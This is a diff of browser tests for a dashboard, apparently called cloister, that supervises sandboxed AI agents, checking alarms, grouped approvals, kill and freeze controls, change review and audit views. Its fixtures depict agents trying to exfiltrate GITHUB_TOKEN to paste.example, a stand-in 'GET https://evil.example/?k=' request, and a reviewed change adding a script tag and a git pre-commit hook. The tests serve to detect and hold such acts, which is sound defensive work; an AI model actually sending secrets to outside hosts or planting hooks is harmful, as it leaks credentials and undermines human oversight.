@@ -80,6 +80,54 @@ def test_code_works_and_leaves_the_address(chromium, fake):
     assert chromium.run("location.hash") == "#/cells"
     chromium.open(fake.url + "/#code=twice")
     chromium.see("#login-form")
+    # Pasted into the tab that is open, whether somebody is logged in there or not.
+    chromium.run("location.hash = '#code=once'")
+    chromium.see(".row")
+    assert chromium.run("location.hash") == "#/cells"
+    go(chromium, "#/approvals", ".empty")
+    chromium.run("location.hash = '#code=once'")
+    chromium.see(".row")
+
+
+# ---- the first page
+def test_what_needs_a_person_is_first(page, fake):
+    page.see(".alarm h2:has-text('An agent tried to send a secret where it may not go')")
+    alarm = page.text(".alarm")
+    for part in ("issue-triage-2", "3 attempts", "POST https://paste.example/api/new", "'GITHUB_TOKEN' is in the body", "no real value has left"):
+        assert part in alarm, part
+    page.see(".glance[data-kind=bad]")
+    page.see(".overview .chart path.theft")
+    # One that runs joins it, and can be stopped from here.
+    fake.change("c0000001", thefts=1, last_theft={"time": at(20), "what": "GET https://evil.example/?k=" + SCRIPT, "why": "a placeholder"})
+    page.see(".alarm h2:has-text('2 agents')")
+    page.click(".alarm li:has-text('docs-crawler-1') button:text-is('Kill')")
+    assert fake.await_asked("/v1/cells/c0000001/kill")
+    page.click(".alarm button:text-is('I have seen it')")
+    page.gone(".alarm")
+    page("reload")
+    page.see(".row")
+    page.gone(".alarm")
+    # What waits is named, alike together; and what was used up, and what is to be reviewed.
+    for n in range(3, 50):
+        fake.ask({**approval(n), "path": "/repos/acme/site/issues"})
+    page.see(".need-list li:has-text('47 times POST api.github.com/repos/acme/site/issues')")
+    page.see(".needs :text('more')")
+    page.see("h1:has-text('things need you')")
+    page.click(".need-list li >> nth=0")
+    page.see("h1:text('Approvals')")
+
+
+def test_without_cells_the_pages_name_a_command(chromium):
+    fake = Fake(0)
+    chromium.open(fake.url + "/#code=once", time=START + 30)
+    chromium.see("h1:text('Nothing needs you')")
+    chromium.see(".empty :text('cloister run claude')")
+    chromium.gone("#stop")
+    chromium.press("e")
+    chromium.see("text=No cell has ended yet.")
+    go(chromium, "#/approvals", ".empty :text('cloister policy edit CELL')")
+    assert chromium.problems() == []
+    fake.close()
 
 
 # ---- 500 cells
@@ -241,6 +289,32 @@ def test_the_chosen_one_stays_while_others_come_and_go(page, fake):
     assert page.run("document.querySelector('.card.chosen').dataset.id") == "c0000006-6"
 
 
+def test_alike_requests_are_answered_together(page, fake):
+    for n in range(3, 50):
+        fake.ask({**approval(n), "path": "/repos/acme/site/issues"})
+    fake.ask(approval(1))                # another path: not one of them
+    fake.ask({**approval(60), "path": "/repos/acme/site/issues", "secrets": ["OTHER_TOKEN"]})
+    go(page, "#/approvals", ".card:has-text('47 times')")
+    assert page.count(".card") == 3 and "49 waiting, of 3 kinds" in page.text(".bar")
+    page.press("j")
+    page.see(".card.chosen[data-armed]:has-text('47 times')")
+    assert "Cells\n47: " in page.text(".card.chosen")
+    page.click(".card.chosen summary")
+    page.see(".card.chosen .each li:has-text('release-notes-3')")
+    # One that comes at the moment of the answer has not been seen.
+    page.run("""new MutationObserver((_, self) => {
+            if (document.querySelector('.card.chosen .times')?.textContent === '48 times') {
+                self.disconnect();
+                document.body.dispatchEvent(new KeyboardEvent('keydown', {key: 'a', bubbles: true}));
+            }
+        }).observe(document.querySelector('.cards'), {subtree: true, childList: true, characterData: true}); 0""")
+    fake.ask({**approval(70), "path": "/repos/acme/site/issues"})
+    page.see(".note:has-text('Approved once: 47 times POST api.github.com/repos/acme/site/issues')")
+    answered = [path for _, path, _ in fake.asked]
+    assert len(answered) == 47 and "/v1/approvals/c0000070-70/approve" not in answered and "/v1/approvals/c0000060-60/approve" not in answered
+    page.see("#nav .badge:text('3')")
+
+
 def test_two_people(page, fake):
     fake.ask(approval(1, needs=2, approvers=["alice", "token:ops"]))
     go(page, "#/approvals", ".card.chosen[data-armed]")
@@ -283,7 +357,7 @@ def test_freeze_all_and_emergency_stop(page, fake):
     page.see("dialog.stop :text('Killed 500 cells.')")
     page.press("Escape")                 # wherever the focus is
     page.gone("dialog.stop")
-    page.see("#stop:text-is('Freeze all')")
+    page.gone("#stop")                   # nothing is left to be frozen
 
 
 def test_without_a_freezer_the_stop_kills(page, fake):
@@ -293,6 +367,7 @@ def test_without_a_freezer_the_stop_kills(page, fake):
     fake.change("c0000001", can_freeze=False)
     go(page, "#/cell/c0000001", ".acts button:text-is('Kill')")
     page.gone(".acts button:has-text('Freeze')")
+    page.see("#stop:text-is('Kill all')")
     page.press("Control+.")
     page.see("dialog.stop :text('1 cell runs. They have no cgroups')")
     page.gone("dialog.stop :text('Freeze every cell')")
@@ -303,6 +378,45 @@ def test_without_a_freezer_the_stop_kills(page, fake):
     assert fake.await_asked("/v1/cells/kill")
     assert [a[1] for a in fake.asked] == ["/v1/cells/kill"]
     page.press("Escape")
+
+
+# ---- what a cell changed
+def test_changes_are_reviewed_applied_and_discarded(page, fake):
+    page.click(".choice button:has-text('Ended')")
+    page.see(".cells.ended .row:has-text('exit 1')")
+    page.click(".cells.ended .row:has-text('docs-crawler-1') a:text-is('review')")
+    page.see(".held-note:has-text('would run on this machine')")
+    page.see(".diff.review .add:has-text('const limit = 100;')")
+    page.see(".diff.review .add:has-text('<script>')")
+    assert page.run("document.title").endswith("cloister")
+    assert page.run("[...document.querySelectorAll('.changed li')].filter(li => !li.querySelector('input').checked).map(li => li.querySelector('b').textContent)") == ["pre-commit", "tasks.json"]
+    page.click(".changed li:has-text('README.md') input")
+    page.see(".acts :text('3 changes stay here')")
+    fake.conflict = "changed here since the cell started (--force overwrites): 'site/src/app.js'"
+    page.click("button:text-is('Apply 3')")
+    page.see(".conflict:has-text('changed here since the cell started')")
+    assert not fake.asked
+    page.click("button:text-is('Overwrite them')")
+    page.click(".conflict button:has-text('Press again')")
+    sent = fake.await_asked("/v1/cells/e0000001/changes/apply")[2]
+    assert sent == {"paths": [f"/home/alice/work/site/{name}" for name in ("src/app.js", "src/new.js", "logo.png")], "force": True}
+    # The held ones are named only when they are ticked.
+    page.see(".changed li >> nth=2")
+    page.gone(".changed li >> nth=3")
+    page.press("x")
+    fake.conflict = None
+    page.click("button:text-is('Apply 2')")
+    page.see(".note:has-text('Applied 2 changes')")
+    assert fake.asked[-1][2] == {"paths": ["/home/alice/work/site/.git/hooks/pre-commit", "/home/alice/work/site/README.md"]}
+    page.click("button:text-is('Discard all')")
+    page.click("button:has-text('Press again: all changes')")
+    assert fake.await_asked("/v1/cells/e0000001/changes/discard")
+    page.see("text=The changes are discarded.")
+    page.gone("[role=tab] :text('to review')")
+    # Its timeline stays; what only a running cell has is not offered.
+    page.press("t")
+    page.see(".timeline .row")
+    page.gone("[role=tab]:text-is('Policy')")
 
 
 # ---- one cell
@@ -449,6 +563,10 @@ def test_a_rule_in_front(page, fake):
     # What was done is not offered again.
     page.until("document.querySelector('[aria-label=Rule]').value === ''")
     page.gone(".quick :text('say which host')")
+    # A refusal's rule keeps the port.
+    page.press("t")
+    page.click(".timeline .row:has-text('registry.example:8443')")
+    page.until("document.querySelector('.detail [aria-label=Rule]').value === 'GET registry.example:8443/v2/'")
 
 
 def test_budget_is_raised(page, fake):
@@ -505,7 +623,9 @@ def test_audit_is_a_state(page, fake):
     page.see("#audit:has-text('verified')")
     page.press("6")
     page.see("h2:text('Every record is as it was written.')")
-    page.see("td:text('secret.added')")
+    page.see("li:has-text('uid 1000 added the secret GITHUB_TOKEN')")
+    page.click("li:has-text('token ops froze cell c0000005') button:has-text('Proof')")
+    page.see(".proof:has-text('Record 3') pre:has-text('\"type\": \"cell.freeze\"')")
     fake.audit = {"state": "broken", "at": at(9), "records": 12, "detail": "c0000007: record 812 was changed"}
     fake.push("audit", fake.audit)
     page.see("#audit[data-kind=bad]:has-text('broken')")
@@ -528,10 +648,11 @@ def test_a_session_that_is_over_leads_to_the_login(page):
 
 
 # ---- light and dark, small, and for everybody
-PAGES = [("#/cells", ".row"), ("#/approvals", ".card"), ("#/cell/c0000001", ".timeline .row"), ("#/cell/c0000001/policy", ".rules li"),
+PAGES = [("#/cells", ".glance"), ("#/approvals", ".card"), ("#/cell/c0000001", ".timeline .row"), ("#/cell/c0000001/policy", ".rules li"),
          ("#/cell/c0000001/budget", ".budgets li"), ("#/cell/c0000001/secrets", "tbody tr"), ("#/cell/c0000001/about", ".facts dd"), ("#/registry", ".name"),
          ("#/registry/agents/researcher", ".diff"), ("#/dispatches", "tbody tr"), ("#/dispatches/d00000000004", ".files"),
-         ("#/secrets", "tbody tr"), ("#/audit", "tbody tr")]
+         ("#/secrets", "tbody tr"), ("#/audit", ".acts-list li"),
+         ("#/cells/ended", ".cells.ended .row"), ("#/cell/e0000001/changes", ".diff.review .add"), ("#/cell/e0000002", ".timeline .row")]
 
 
 @pytest.mark.skipif(not AXE.exists(), reason="axe-core is not in build/npm: `make npm` brings it")
@@ -552,7 +673,7 @@ def test_accessible(chromium, fake, scheme):
 def test_360_pixels(chromium, fake):
     fake.ask(approval(1))
     chromium.open(fake.url + "/#code=once", time=START + 30, width=360, height=740)
-    chromium.see(".row")
+    chromium.see(".glance")
     for hash, wait in PAGES:
         go(chromium, hash, wait)
         assert chromium.run("document.documentElement.scrollWidth") <= 360, hash
